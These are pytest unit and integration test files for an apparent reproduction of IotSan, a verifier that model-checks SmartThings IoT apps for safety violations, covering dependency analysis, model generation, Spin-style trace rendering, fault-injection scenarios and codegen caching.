        for line in out.splitlines():
            if line.startswith("  P"):
                assert line in out2

    def test_engine_codegen_matches_default(self, tmp_path, capsys):
        """`--engine codegen` (with a private source cache) must render
        the identical violation log as the default compiled engine."""
        code, out = run_cli("check", "group1-entry-and-mode",
                            "--max-events", "2", "--trace", capsys=capsys)
        code2, out2 = run_cli("check", "group1-entry-and-mode",
                              "--max-events", "2", "--trace",
                              "--engine", "codegen",
                              "--codegen-cache", str(tmp_path),
                              capsys=capsys)
        assert (code, code2) == (1, 1)

        def tail(text):
            return text[text.index("SmartThings0.prom"):]
        assert tail(out) == tail(out2)

    def test_profile_prints_phase_breakdown(self, capsys):
        code, out = run_cli("check", "group1-entry-and-mode",
                            "--max-events", "1", "--profile",
                            capsys=capsys)
        assert "phase breakdown:" in out
        for phase in ("parse", "build", "explore", "canonicalize"):
            assert phase in out

    def test_check_json_carries_profile(self, capsys):
        import json

        code, out = run_cli("check", "group1-entry-and-mode",
                            "--max-events", "1", "--json", capsys=capsys)
        payload = json.loads(out)
        assert payload["verdict"] in ("safe", "violated")
        assert {"parse", "build", "explore"} <= set(payload["profile"])
        assert "cache_disable_reason" in payload

    def test_config_from_json_file(self, tmp_path, capsys):
        from repro.config.schema import SystemConfiguration

        config = SystemConfiguration()
        config.add_device("m", "smartsense-motion")
        config.add_device("s", "smart-outlet")
        config.add_app("Brighten My Path", {"motion1": "m", "switch1": "s"})
        path = tmp_path / "home.json"
        path.write_text(config.to_json())
        code, out = run_cli("check", str(path), "--max-events", "2",
                            capsys=capsys)
        assert code == 0
        assert "0 distinct violation" in out


class TestEmit:
    def test_emit_to_stdout(self, capsys):
        code, out = run_cli("emit", "group1-entry-and-mode", capsys=capsys)
        assert code == 0
        assert "active proctype SmartThingsMain" in out

    def test_emit_to_file(self, tmp_path, capsys):
        target = tmp_path / "model.prom"
        code, out = run_cli("emit", "group1-entry-and-mode", "-o",
                            str(target), capsys=capsys)
        assert code == 0
        assert target.read_text().startswith("/* Generated by IotSan")


class TestAttribute:
    def test_malicious_app_flagged(self, capsys):
        code, out = run_cli("attribute", "Fake CO Alarm",
                            "group4-security", "--max-configs", "4",
                            capsys=capsys)
        assert code == 1
        assert "MALICIOUS" in out

    def test_json_output(self, capsys):
        _code, out = run_cli("attribute", "Fake CO Alarm",
                             "group4-security", "--max-configs", "4",
                             "--json", capsys=capsys)
        payload = json.loads(out[out.index("{"):])
        assert payload["verdict"] == "malicious"
