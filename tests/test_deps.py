"""Unit tests for the App Dependency Analyzer machinery (§5)."""

from repro.deps import analyze_apps, extract_handler_io
from repro.deps.events import ANY, EventDescriptor
from repro.deps.graph import DependencyGraph
from repro.deps.related import build_graph, compute_related_sets

from tests.helpers import make_app

_DEF = ('definition(name: "%s", namespace: "t", author: "t", '
        'description: "d", category: "c")\n')


def app_with(name, body, prefs=""):
    source = _DEF % name
    if prefs:
        source += "preferences { section('s') { %s } }\n" % prefs
    return make_app(source + body)


class TestEventDescriptor:
    def test_any_overlaps_specific(self):
        a = EventDescriptor("switch", ANY)
        b = EventDescriptor("switch", "on")
        assert a.overlaps(b)
        assert b.overlaps(a)

    def test_specific_overlap_requires_same_value(self):
        on = EventDescriptor("switch", "on")
        off = EventDescriptor("switch", "off")
        assert on.overlaps(on)
        assert not on.overlaps(off)

    def test_different_attributes_never_overlap(self):
        assert not EventDescriptor("switch", ANY).overlaps(
            EventDescriptor("lock", ANY))

    def test_conflicts_on_opposite_values(self):
        on = EventDescriptor("switch", "on")
        off = EventDescriptor("switch", "off")
        assert on.conflicts(off)

    def test_no_conflict_with_any(self):
        assert not EventDescriptor("switch", ANY).conflicts(
            EventDescriptor("switch", "on"))


class TestHandlerIO:
    def test_subscription_becomes_input(self):
        app = app_with("A", '''
def installed() { subscribe(contact1, "contact.open", h) }
def h(evt) { }
''', prefs='input "contact1", "capability.contactSensor"')
        inputs, _outputs = extract_handler_io(app, "h")
        assert any(d.attribute == "contact" and d.value == "open"
                   for d in inputs)

    def test_command_becomes_output(self):
        app = app_with("A", '''
def installed() { subscribe(contact1, "contact", h) }
def h(evt) { switch1.on() }
''', prefs=('input "contact1", "capability.contactSensor"\n'
            'input "switch1", "capability.switch"'))
        _inputs, outputs = extract_handler_io(app, "h")
        assert any(d.attribute == "switch" and d.value == "on"
                   for d in outputs)

    def test_device_read_becomes_input(self):
        # "identified via APIs that read states of smart devices"
        app = app_with("A", '''
def installed() { subscribe(contact1, "contact", h) }
def h(evt) { if (switch1.currentSwitch == "on") { contact1.open } }
''', prefs=('input "contact1", "capability.contactSensor"\n'
            'input "switch1", "capability.switch"'))
        inputs, _outputs = extract_handler_io(app, "h")
        assert any(d.attribute == "switch" for d in inputs)

    def test_mode_change_becomes_output(self):
        app = app_with("A", '''
def installed() { subscribe(p, "presence", h) }
def h(evt) { setLocationMode("Away") }
''', prefs='input "p", "capability.presenceSensor"')
        _inputs, outputs = extract_handler_io(app, "h")
        assert any(d.attribute == "mode" for d in outputs)

    def test_helper_method_effects_included(self):
        # output events reached through private helper calls
        app = app_with("A", '''
def installed() { subscribe(contact1, "contact", h) }
def h(evt) { doIt() }
private doIt() { switch1.off() }
''', prefs=('input "contact1", "capability.contactSensor"\n'
            'input "switch1", "capability.switch"'))
        _inputs, outputs = extract_handler_io(app, "h")
        assert any(d.value == "off" for d in outputs)


class TestGraph:
    def _two_vertex_graph(self):
        graph = DependencyGraph()
        graph.add_vertex([("A", "h")], [EventDescriptor("contact", ANY)],
                         [EventDescriptor("switch", "on")])
        graph.add_vertex([("B", "g")], [EventDescriptor("switch", ANY)],
                         [])
        return graph.build_edges()

    def test_edge_on_io_overlap(self):
        graph = self._two_vertex_graph()
        assert graph.children[0] == {1}

    def test_leaf_detection(self):
        graph = self._two_vertex_graph()
        assert [v.id for v in graph.leaves()] == [1]

    def test_ancestors(self):
        graph = self._two_vertex_graph()
        assert graph.ancestors(1) == {0}
        assert graph.ancestors(0) == set()

    def test_scc_merge_of_cycle(self):
        graph = DependencyGraph()
        graph.add_vertex([("A", "h")], [EventDescriptor("switch", ANY)],
                         [EventDescriptor("lock", "locked")])
        graph.add_vertex([("B", "g")], [EventDescriptor("lock", ANY)],
                         [EventDescriptor("switch", "on")])
        merged = graph.build_edges().merge_sccs()
        assert len(merged.vertices) == 1
        assert len(merged.vertices[0].members) == 2

    def test_merge_preserves_acyclic_graph(self):
        graph = self._two_vertex_graph()
        merged = graph.merge_sccs()
        assert len(merged.vertices) == 2


class TestRelatedSets:
    def test_independent_apps_not_joined(self):
        lock_app = app_with("LockApp", '''
def installed() { subscribe(p, "presence", h) }
def h(evt) { lock1.lock() }
''', prefs=('input "p", "capability.presenceSensor"\n'
            'input "lock1", "capability.lock"'))
        fan_app = app_with("FanApp", '''
def installed() { subscribe(hum, "humidity", g) }
def g(evt) { fan.on() }
''', prefs=('input "hum", "capability.relativeHumidityMeasurement"\n'
            'input "fan", "capability.switch"'))
        analysis = analyze_apps([lock_app, fan_app])
        for group in analysis.app_groups():
            assert not ({"LockApp", "FanApp"} <= set(group))

    def test_subset_reduction(self):
        graph = build_graph([])
        _merged, sets = compute_related_sets(graph)
        assert sets == []

    def test_scale_ratio_of_independent_apps(self):
        apps = []
        for i in range(3):
            apps.append(app_with("App%d" % i, '''
def installed() { subscribe(d, "presence", h) }
def h(evt) { }
''', prefs='input "d", "capability.presenceSensor"'))
        analysis = analyze_apps(apps)
        assert analysis.original_size == 3
        assert analysis.new_size == 1
        assert analysis.scale_ratio == 3.0
