"""Unit tests for the Model Generator (§8): binding configurations."""

import pytest

from repro.config.schema import SystemConfiguration
from repro.model.generator import ConfigurationError, ModelGenerator


@pytest.fixture()
def config():
    config = SystemConfiguration()
    config.add_device("m", "smartsense-motion")
    config.add_device("s", "smart-outlet")
    config.add_app("Brighten My Path", {"motion1": "m", "switch1": "s"})
    return config


class TestBuild:
    def test_builds_devices_and_apps(self, generator, config):
        system = generator.build(config)
        assert set(system.devices) == {"m", "s"}
        assert [a.name for a in system.apps] == ["Brighten My Path"]

    def test_unknown_app_strict_raises(self, generator, config):
        config.add_app("Imaginary App", {})
        with pytest.raises(ConfigurationError):
            generator.build(config)

    def test_unknown_app_lenient_skips(self, generator, config):
        config.add_app("Imaginary App", {})
        system = generator.build(config, strict=False)
        assert len(system.apps) == 1

    def test_unknown_device_binding_strict_raises(self, generator, config):
        config.apps[0].bindings["switch1"] = "ghost"
        with pytest.raises(ConfigurationError):
            generator.build(config)

    def test_capability_mismatch_strict_raises(self, generator, config):
        config.apps[0].bindings["switch1"] = "m"  # motion sensor as switch
        with pytest.raises(ConfigurationError):
            generator.build(config)

    def test_missing_required_input_strict_raises(self, generator, config):
        del config.apps[0].bindings["switch1"]
        with pytest.raises(ConfigurationError):
            generator.build(config)

    def test_unknown_input_name_strict_raises(self, generator, config):
        config.apps[0].bindings["warpDrive"] = "s"
        with pytest.raises(ConfigurationError):
            generator.build(config)

    def test_multiple_installs_of_same_app(self, generator, config):
        config.add_device("s2", "smart-outlet")
        config.add_app("Brighten My Path", {"motion1": "m", "switch1": "s2"},
                       instance_name="second install")
        system = generator.build(config)
        assert len(system.apps) == 2
        assert {a.name for a in system.apps} == {"Brighten My Path",
                                                 "second install"}


class TestDerivedAssociation:
    def test_plural_roles_derived(self, generator, config):
        system = generator.build(config)
        assert system.role_list("motion_sensors") == ["m"]

    def test_singular_role_derived_when_unique(self, generator):
        config = SystemConfiguration()
        config.add_device("onlyLock", "zwave-lock")
        system = generator.build(config)
        assert system.role("main_door_lock") == "onlyLock"

    def test_singular_role_not_derived_when_ambiguous(self, generator):
        config = SystemConfiguration()
        config.add_device("lockA", "zwave-lock")
        config.add_device("lockB", "zwave-lock")
        system = generator.build(config)
        # ambiguous: the user must associate it (§7)
        assert system.role("main_door_lock") is None
        assert sorted(system.role_list("locks")) == ["lockA", "lockB"]

    def test_explicit_association_wins(self, generator):
        config = SystemConfiguration(association={"main_door_lock": "lockB"})
        config.add_device("lockA", "zwave-lock")
        config.add_device("lockB", "zwave-lock")
        system = generator.build(config)
        assert system.role("main_door_lock") == "lockB"


class TestOptions:
    def test_failures_flag(self, generator, config):
        assert generator.build(config, enable_failures=True).enable_failures
        assert not generator.build(config).enable_failures

    def test_user_mode_events_flag(self, generator, config):
        system = generator.build(config, user_mode_events=True)
        state = system.initial_state()
        modes = [c for c in system.external_choices(state)
                 if c.kind == "mode"]
        assert {c.value for c in modes} == {"Away", "Night"}

    def test_user_mode_events_off_by_default(self, generator, config):
        system = generator.build(config)
        state = system.initial_state()
        assert not any(c.kind == "mode"
                       for c in system.external_choices(state))
