"""Unit tests for the Fig-7 Spin-log renderer."""

import re

import pytest

from repro.checker.explorer import verify
from repro.checker.trace import (
    SpinLogRenderer,
    render_result_logs,
    render_violation_log,
)
from repro.properties import build_properties

_LINE_RE = re.compile(
    r"^SmartThings0\.prom:\d+ \(state \d+\) \[.+\]$")


@pytest.fixture()
def fig7(alice_system):
    result = verify(alice_system, build_properties(), max_events=1)
    return result.counterexample_for("P06")


class TestLogFormat:
    def test_every_body_line_matches_spin_format(self, alice_system, fig7):
        log = render_violation_log(alice_system, fig7)
        body = [line for line in log.splitlines()
                if line.startswith("SmartThings0")]
        assert body
        for line in body:
            assert _LINE_RE.match(line), line

    def test_footer_has_assertion(self, alice_system, fig7):
        log = render_violation_log(alice_system, fig7)
        assert "spin: _spin_nvr.tmp:3, Error: assertion violated" in log
        assert "spin: text of failed assertion: assert(" in log

    def test_state_numbers_increase(self, alice_system, fig7):
        log = render_violation_log(alice_system, fig7)
        states = [int(m.group(1))
                  for m in re.finditer(r"\(state (\d+)\)", log)]
        assert states == sorted(states)

    def test_line_numbers_stable_per_statement(self, alice_system, fig7):
        """The same Promela statement always renders at the same line,
        like a statement at a fixed position in a generated .prom file."""
        log = render_violation_log(alice_system, fig7)
        lines_by_statement = {}
        for match in re.finditer(r":(\d+) \(state \d+\) \[(.+)\]", log):
            line_number, statement = match.groups()
            lines_by_statement.setdefault(statement, set()).add(line_number)
        for statement, line_numbers in lines_by_statement.items():
            assert len(line_numbers) == 1, statement


class TestFig7Vocabulary:
    """The rendered log must use the paper's Figure-7 vocabulary."""

    def test_generated_event(self, alice_system, fig7):
        log = render_violation_log(alice_system, fig7)
        assert "generatedEvent.evtType = notpresent" in log

    def test_sub_notifiers(self, alice_system, fig7):
        log = render_violation_log(alice_system, fig7)
        assert "subNotifiers" in log

    def test_location_mode_assignment(self, alice_system, fig7):
        log = render_violation_log(alice_system, fig7)
        assert "location.mode = Away" in log

    def test_st_command(self, alice_system, fig7):
        log = render_violation_log(alice_system, fig7)
        assert "ST_Command.evtType = unlock" in log

    def test_device_array_state_update(self, alice_system, fig7):
        log = render_violation_log(alice_system, fig7)
        assert re.search(r"g_ST\w+Arr\.element\[.+\]\.currentLock = unlocked",
                         log)

    def test_property_comment(self, alice_system, fig7):
        log = render_violation_log(alice_system, fig7)
        assert "P06" in log


class TestFiltering:
    def test_filtered_drops_log_steps(self, alice_system, fig7):
        filtered = render_violation_log(alice_system, fig7, filtered=True)
        raw = render_violation_log(alice_system, fig7, filtered=False)
        assert len(raw.splitlines()) >= len(filtered.splitlines())
        assert "printf" not in filtered


class TestRenderResultLogs:
    def test_all_counterexamples_rendered(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=1)
        logs = render_result_logs(alice_system, result)
        assert len(logs) == len(result.counterexamples)
        for property_id, log in logs:
            assert property_id.startswith("P")
            assert "assertion violated" in log

    def test_limit_respected(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=2)
        logs = render_result_logs(alice_system, result, limit=1)
        assert len(logs) == 1

    def test_renderer_reusable(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=1)
        renderer = SpinLogRenderer(alice_system)
        ces = list(result.counterexamples.values())
        first = renderer.render(ces[0])
        second = renderer.render(ces[0])
        assert first == second
