"""Fault-injection scenario differentials: profiles vs tiers vs digests.

The named scenario profiles (:mod:`repro.model.faults`) are *semantic*
knobs: each one reshapes the explored transition relation (lost reports,
LIFO-delayed internal events, duplicated deliveries, dead devices, stale
reads).  These suites pin down the contract:

- ``clean`` is byte-identical to a run that never mentions scenarios;
- every profile produces identical verdicts, violation sets, state
  counts and canonical traces across the interpreted, compiled and
  codegen tiers (the differential oracle extended to faulted relations);
- profiles survive the visited-store choices and the sharded search;
- profiles are digest-distinguished - a lossy verdict can never be
  served from the clean result cache;
- the sleep-set reduction silently stands down for non-clean profiles
  (its independence relation only models the clean semantics).
"""

import pytest

from repro.corpus import load_all_apps
from repro.corpus.groups import GROUP_BUILDERS
from repro.engine import EngineOptions, ExplorationEngine
from repro.engine.batch import VerificationJob, execute_job_inline
from repro.engine.parallel import explore_sharded
from repro.model.faults import PROFILES, resolve_scenario, scenario_names
from repro.model.generator import ModelGenerator
from repro.properties import build_properties, select_relevant

from tests.conftest import _load_or_skip

GROUP1 = "group1-entry-and-mode"
ENGINES = ("interpreted", "compiled", "codegen")
NON_CLEAN = tuple(name for name in scenario_names() if name != "clean")


@pytest.fixture(scope="module")
def registry():
    return _load_or_skip(load_all_apps)


@pytest.fixture(scope="module")
def codegen_cache(tmp_path_factory):
    return str(tmp_path_factory.mktemp("scenario-codegen-cache"))


def _context(registry, group_name):
    system = ModelGenerator(registry).build(GROUP_BUILDERS[group_name]())
    return system, select_relevant(system, build_properties())


def _run(registry, group_name, **option_kwargs):
    system, properties = _context(registry, group_name)
    options = EngineOptions(**option_kwargs)
    return ExplorationEngine(system, properties, options).run()


def _trace_view(result):
    """Per-counterexample event paths and full rendered step traces."""
    return {
        key: (ce.event_labels(),
              [(s.kind, s.text, s.app) for s in ce.all_steps()])
        for key, ce in result.counterexamples.items()}


def _assert_equivalent(left, right, context):
    assert left.states_explored == right.states_explored, context
    assert left.transitions == right.transitions, context
    assert sorted(left.counterexamples) == sorted(right.counterexamples), \
        context
    assert _trace_view(left) == _trace_view(right), context


class TestScenarioTierDifferential:
    """Every profile x every execution tier on the canonical violating
    group: the scenario layer lives in the shared cascade/relation code,
    so no tier may observe a different faulted world."""

    @pytest.mark.parametrize("scenario", sorted(scenario_names()))
    def test_group1_all_tiers_agree(self, registry, codegen_cache, scenario):
        results = {}
        for engine in ENGINES:
            results[engine] = _run(
                registry, GROUP1, engine=engine, scenario=scenario,
                codegen_cache=codegen_cache, max_events=2, max_states=20000)
        oracle = results["interpreted"]
        assert not oracle.truncated, scenario
        for engine in ("compiled", "codegen"):
            _assert_equivalent(results[engine], oracle,
                               (scenario, engine))

    @pytest.mark.parametrize("group_name", sorted(GROUP_BUILDERS))
    def test_corpus_groups_every_scenario(self, registry, codegen_cache,
                                          group_name):
        """The whole bundled group corpus under every profile, one event
        of depth: cheap enough to sweep the full cross product."""
        for scenario in scenario_names():
            results = {}
            for engine in ENGINES:
                results[engine] = _run(
                    registry, group_name, engine=engine, scenario=scenario,
                    codegen_cache=codegen_cache, max_events=1,
                    max_states=5000)
            oracle = results["interpreted"]
            for engine in ("compiled", "codegen"):
                _assert_equivalent(results[engine], oracle,
                                   (group_name, scenario, engine))

    @pytest.mark.parametrize("visited", ("exact", "fingerprint", "collapse"))
    def test_group1_stores_per_scenario(self, registry, codegen_cache,
                                        visited):
        """Faulted relations meet every dedup store through the same
        engine hooks; the codegen tier must agree state-for-state."""
        for scenario in NON_CLEAN:
            codegen = _run(registry, GROUP1, engine="codegen",
                           scenario=scenario, visited=visited,
                           codegen_cache=codegen_cache,
                           max_events=2, max_states=20000)
            oracle = _run(registry, GROUP1, engine="interpreted",
                          scenario=scenario, visited=visited,
                          max_events=2, max_states=20000)
            _assert_equivalent(codegen, oracle, (scenario, visited))


class TestScenarioSemantics:
    def test_clean_matches_a_run_that_never_heard_of_scenarios(
            self, registry):
        default = _run(registry, GROUP1, max_events=2, max_states=20000)
        clean = _run(registry, GROUP1, scenario="clean",
                     max_events=2, max_states=20000)
        _assert_equivalent(clean, default, "clean vs default")
        assert clean.verdict == default.verdict

    def test_profiles_enumerate_their_variants(self, registry):
        """Each profile's variants surface as labeled failure scenarios
        alongside (never instead of) the clean delivery."""
        expected = {
            "lossy": " [report lost]",
            "delayed": " [delayed]",
            "duplicated": " [duplicated]",
            "device-death": " dead]",
            "stale-reads": " [stale reads]",
        }
        system, _ = _context(registry, GROUP1)
        state = system.initial_state()
        for name, suffix in expected.items():
            system.scenario_profile = resolve_scenario(name)
            labels = set()
            clean_choices = 0
            for ext in system.external_choices(state):
                for scenario in system.failure_scenarios(ext):
                    label = scenario.label()
                    labels.add(label)
                    clean_choices += not label
            assert any(label.endswith(suffix) for label in labels), name
            assert clean_choices, name  # ideal delivery always kept

    def test_clean_profile_enumerates_nothing(self, registry):
        system, _ = _context(registry, GROUP1)
        assert system.scenario_profile.is_clean  # the constructor default
        state = system.initial_state()
        for ext in system.external_choices(state):
            assert [s.label() for s in system.failure_scenarios(ext)] == [""]

    def test_non_clean_profiles_change_the_explored_space(self, registry):
        clean = _run(registry, GROUP1, max_events=2, max_states=20000)
        for scenario in NON_CLEAN:
            faulted = _run(registry, GROUP1, scenario=scenario,
                           max_events=2, max_states=20000)
            assert faulted.transitions > clean.transitions, scenario
            assert faulted.states_explored >= clean.states_explored, scenario

    def test_reduction_stands_down_for_non_clean_profiles(self, registry):
        """The independence relation models clean semantics only, so a
        non-clean profile must disable the sleep sets - proven by the
        reduced run matching the unreduced one exactly."""
        reduced = _run(registry, GROUP1, scenario="lossy", reduction=True,
                       max_events=2, max_states=20000)
        plain = _run(registry, GROUP1, scenario="lossy",
                     max_events=2, max_states=20000)
        assert reduced.commutes_pruned == 0
        _assert_equivalent(reduced, plain, "lossy+reduction")

    def test_unknown_scenario_rejected_at_option_time(self):
        with pytest.raises(ValueError, match="unknown scenario"):
            EngineOptions(scenario="packet-storm")
        with pytest.raises(ValueError):
            resolve_scenario("packet-storm")

    def test_resolve_scenario_is_idempotent(self):
        for name, profile in PROFILES.items():
            assert resolve_scenario(name) is profile
            assert resolve_scenario(profile) is profile
        assert EngineOptions(scenario="lossy").scenario == "lossy"
        assert EngineOptions().scenario == "clean"


class TestScenarioDigests:
    """Profiles are semantic: every one must split the result cache."""

    def _job(self, registry, **option_kwargs):
        _load_or_skip(load_all_apps)
        return VerificationJob(GROUP1, GROUP_BUILDERS[GROUP1](),
                               EngineOptions(max_events=2, **option_kwargs),
                               strict=False)

    def test_every_scenario_gets_its_own_cache_key(self, registry):
        from repro.service.digest import job_cache_key

        keys = {name: job_cache_key(self._job(registry, scenario=name))
                for name in scenario_names()}
        assert len(set(keys.values())) == len(keys)
        # the default spells "clean", so legacy submissions keep their keys
        assert job_cache_key(self._job(registry)) == keys["clean"]

    def test_options_payload_carries_the_scenario(self):
        from repro.service.digest import options_payload

        assert options_payload(EngineOptions(scenario="lossy"))["scenario"] \
            == "lossy"
        assert options_payload(EngineOptions())["scenario"] == "clean"

    def test_engine_tier_still_digest_neutral_under_faults(self, registry):
        """`engine` stays a performance knob inside every profile."""
        from repro.service.digest import job_cache_key

        keys = {engine: job_cache_key(
                    self._job(registry, scenario="lossy", engine=engine))
                for engine in ENGINES}
        assert len(set(keys.values())) == 1


class TestScenarioSharded:
    def test_lossy_sharded_matches_single_worker(self, registry):
        def job(workers):
            return VerificationJob(GROUP1, GROUP_BUILDERS[GROUP1](),
                                   EngineOptions(max_events=2,
                                                 scenario="lossy",
                                                 workers=workers),
                                   strict=False)

        single = execute_job_inline(job(1))
        sharded = explore_sharded(job(2))
        _assert_equivalent(sharded, single, "lossy sharded")
        assert sharded.verdict == single.verdict
