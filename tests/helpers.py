"""Shared test helpers (importable, unlike conftest)."""


def make_app(source, name="test.groovy"):
    """Parse inline Groovy into a SmartApp."""
    from repro.smartapp import load_app

    return load_app(source, name)


APP_HEADER = '''
definition(name: "%(name)s", namespace: "t", author: "t",
           description: "%(description)s", category: "c")
'''


def app_source(name="Test App", description="d", preferences="", body=""):
    """Assemble a minimal app source from parts."""
    parts = [APP_HEADER % {"name": name, "description": description}]
    if preferences:
        parts.append("preferences {\n%s\n}" % preferences)
    parts.append(body)
    return "\n".join(parts)
