"""Digest-keyed codegen source cache: invalidation, reuse, hygiene.

The cache contract: generated modules are addressed by
``(schema version, system digest, app)``; any semantic change to the
deployment (handler source, bound devices, catalog surface) moves the
digest and therefore the cache key; an unchanged digest must reuse the
cached bytes without regenerating; and regeneration must reproduce the
cached file byte-for-byte (deterministic emission).
"""

import os
import py_compile
import shutil
import subprocess

import pytest

from repro.config.schema import SystemConfiguration
from repro.corpus import load_all_apps
from repro.model.codegen import (
    CODEGEN_SCHEMA_VERSION,
    CodegenPlan,
    default_cache_dir,
    generate_source,
    load_program,
    module_cache_path,
)
from repro.model.generator import ModelGenerator

from tests.conftest import _load_or_skip


@pytest.fixture()
def registry():
    return _load_or_skip(load_all_apps)


def _alice_config(lock_device="zwave-lock"):
    config = SystemConfiguration(contacts=["+1-555-0100"])
    config.add_device("alicePresence", "smartsense-presence")
    config.add_device("doorLock", lock_device)
    config.association["main_door_lock"] = "doorLock"
    config.add_app("Auto Mode Change", {"people": ["alicePresence"],
                                        "awayMode": "Away",
                                        "homeMode": "Home"})
    config.add_app("Unlock Door", {"lock1": "doorLock"})
    return config


class TestCacheKeying:
    def test_unchanged_system_reuses_digest_and_paths(self, registry,
                                                      tmp_path):
        gen = ModelGenerator(registry)
        a = gen.build(_alice_config())
        b = gen.build(_alice_config())
        assert a.digest() == b.digest()
        app = a.apps[0]
        assert (module_cache_path(str(tmp_path), a.digest(), app.name)
                == module_cache_path(str(tmp_path), b.digest(), app.name))

    def test_deployment_edit_moves_the_cache_key(self, registry, tmp_path):
        """Changing the bound system (here: a different device type with
        a different spec surface) must change the digest and therefore
        the generated-module location - stale modules can never be
        picked up for an edited deployment."""
        gen = ModelGenerator(registry)
        original = gen.build(_alice_config())
        config = _alice_config()
        config.add_device("spareSwitch", "smart-outlet")
        edited = gen.build(config)
        assert original.digest() != edited.digest()
        app = original.apps[0].name
        assert (module_cache_path(str(tmp_path), original.digest(), app)
                != module_cache_path(str(tmp_path), edited.digest(), app))

    def test_schema_version_partitions_the_cache(self, tmp_path):
        path = module_cache_path(str(tmp_path), "d" * 8, "App")
        assert ("v%d" % CODEGEN_SCHEMA_VERSION) in path
        assert path.startswith(str(tmp_path))

    def test_default_cache_dir_honors_environment(self, monkeypatch,
                                                  tmp_path):
        monkeypatch.setenv("REPRO_CODEGEN_CACHE", str(tmp_path / "override"))
        assert default_cache_dir() == str(tmp_path / "override")
        monkeypatch.delenv("REPRO_CODEGEN_CACHE")
        assert default_cache_dir().endswith(os.path.join(
            ".cache", "repro", "codegen"))


class TestCacheReuse:
    def test_generation_persists_then_reuses_byte_for_byte(self, registry,
                                                           tmp_path):
        system = ModelGenerator(registry).build(_alice_config())
        app = system.apps[0]
        digest = system.digest()
        cache_dir = str(tmp_path)

        program = load_program(app, digest, cache_dir=cache_dir,
                               _memory_cache={})
        assert program is not None
        path = module_cache_path(cache_dir, digest, app.name)
        assert os.path.exists(path)

        # poison the cached file with a valid module: a reload must run
        # the on-disk bytes (proof it did not regenerate), so the
        # poisoned METHODS table shows through
        with open(path, "w", encoding="utf-8") as handle:
            handle.write("METHODS = {'poisoned': None}\n")
        reloaded = load_program(app, digest, cache_dir=cache_dir,
                                _memory_cache={})
        assert set(reloaded.methods) == {"poisoned"}

        # a different digest misses the poisoned entry and regenerates
        fresh = load_program(app, "0" * 64, cache_dir=cache_dir,
                             _memory_cache={})
        assert "poisoned" not in set(fresh.methods)
        assert set(fresh.methods) == set(program.methods)

    def test_regeneration_reproduces_cached_bytes(self, registry,
                                                  tmp_path):
        """Deterministic emission: wiping the cache and regenerating
        must write the identical file."""
        system = ModelGenerator(registry).build(_alice_config())
        app = system.apps[0]
        digest = system.digest()
        cache_dir = str(tmp_path)
        load_program(app, digest, cache_dir=cache_dir, _memory_cache={})
        path = module_cache_path(cache_dir, digest, app.name)
        with open(path, encoding="utf-8") as handle:
            first = handle.read()
        os.unlink(path)
        load_program(app, digest, cache_dir=cache_dir, _memory_cache={})
        with open(path, encoding="utf-8") as handle:
            second = handle.read()
        assert first == second
        assert digest in first  # the header pins the generating digest

    def test_disk_cache_disabled_still_generates(self, registry):
        system = ModelGenerator(registry).build(_alice_config())
        app = system.apps[0]
        program = load_program(app, system.digest(), cache_dir=False,
                               _memory_cache={})
        assert program is not None
        assert program.source_path is None

    def test_plan_populates_cache_for_every_generated_app(self, registry,
                                                          tmp_path):
        system = ModelGenerator(registry).build(_alice_config())
        plan = CodegenPlan(system, cache_dir=str(tmp_path))
        assert plan.generated == len(system.apps)
        for app in system.apps:
            assert os.path.exists(
                module_cache_path(str(tmp_path), plan.digest, app.name))


class TestGeneratedSourceHygiene:
    """Generated modules are real source artifacts: they must pass the
    same static checks hand-written code would."""

    def test_generated_modules_py_compile(self, registry, tmp_path):
        system = ModelGenerator(registry).build(_alice_config())
        plan = CodegenPlan(system, cache_dir=str(tmp_path))
        assert plan.generated
        for app in system.apps:
            path = module_cache_path(str(tmp_path), plan.digest, app.name)
            py_compile.compile(path, doraise=True)

    def test_generated_modules_pass_ruff(self, registry, tmp_path):
        """Lint the generated sources for real errors (syntax,
        undefined names) when ruff is installed; containers without it
        skip - py_compile above is the floor."""
        ruff = shutil.which("ruff")
        if ruff is None:
            pytest.skip("ruff not installed")
        system = ModelGenerator(registry).build(_alice_config())
        plan = CodegenPlan(system, cache_dir=str(tmp_path))
        assert plan.generated
        proc = subprocess.run(
            [ruff, "check", "--select", "E9,F821,F811,F401",
             "--isolated", str(tmp_path)],
            capture_output=True, text=True)
        assert proc.returncode == 0, proc.stdout + proc.stderr

    def test_source_header_names_app_and_digest(self, registry):
        system = ModelGenerator(registry).build(_alice_config())
        app = system.apps[0]
        source = generate_source(app, digest="cafebabe")
        assert "cafebabe" in source
        assert app.name in source
