"""Unit tests for the capability catalog and device models (§8)."""

import pytest

from repro.devices import DEVICE_TYPES, device_spec, specs_with_capability
from repro.devices.capabilities import (
    CAPABILITIES,
    capability,
    command_effect,
    conflicting_values,
)
from repro.devices.instance import DeviceInstance


class TestCatalog:
    def test_at_least_thirty_device_types(self):
        # "Currently, we support 30 different IoT devices" (§8); the IFTTT
        # extension (§11) adds the voice-assistant and VoIP services.
        assert len(DEVICE_TYPES) >= 30

    def test_every_type_resolvable(self):
        for type_name in DEVICE_TYPES:
            assert device_spec(type_name).type_name == type_name

    def test_unknown_type_raises(self):
        with pytest.raises(KeyError):
            device_spec("flux-capacitor")

    def test_every_capability_resolvable(self):
        for spec in DEVICE_TYPES.values():
            for cap_name in spec.capabilities:
                assert capability(cap_name) is not None

    def test_specs_with_capability(self):
        switches = specs_with_capability("switch")
        assert any(s.type_name == "smart-outlet" for s in switches)
        assert all(s.has_capability("switch") for s in switches)

    def test_capability_prefix_form(self):
        assert capability("capability.switch") is capability("switch")


class TestAttributeDomains:
    def test_every_enum_attribute_has_default_in_domain(self):
        for cap in CAPABILITIES.values():
            for attr in cap.attributes.values():
                assert attr.default in attr.values

    def test_lock_defaults_safe(self):
        # safe-by-default initial states: violations need an app action
        assert capability("lock").attributes["lock"].default == "locked"

    def test_presence_defaults_present(self):
        attr = capability("presenceSensor").attributes["presence"]
        assert attr.default == "present"

    def test_switch_defaults_off(self):
        assert capability("switch").attributes["switch"].default == "off"

    def test_numeric_domains_are_discretized(self):
        temp = capability("temperatureMeasurement").attributes["temperature"]
        assert temp.kind == "numeric"
        assert len(temp.values) >= 3


class TestCommands:
    def test_switch_commands(self):
        cap = capability("switch")
        assert cap.commands["on"].value == "on"
        assert cap.commands["off"].value == "off"

    def test_command_effect_resolution(self):
        effect = command_effect(["switch", "lock"], "unlock")
        assert effect.attribute == "lock"
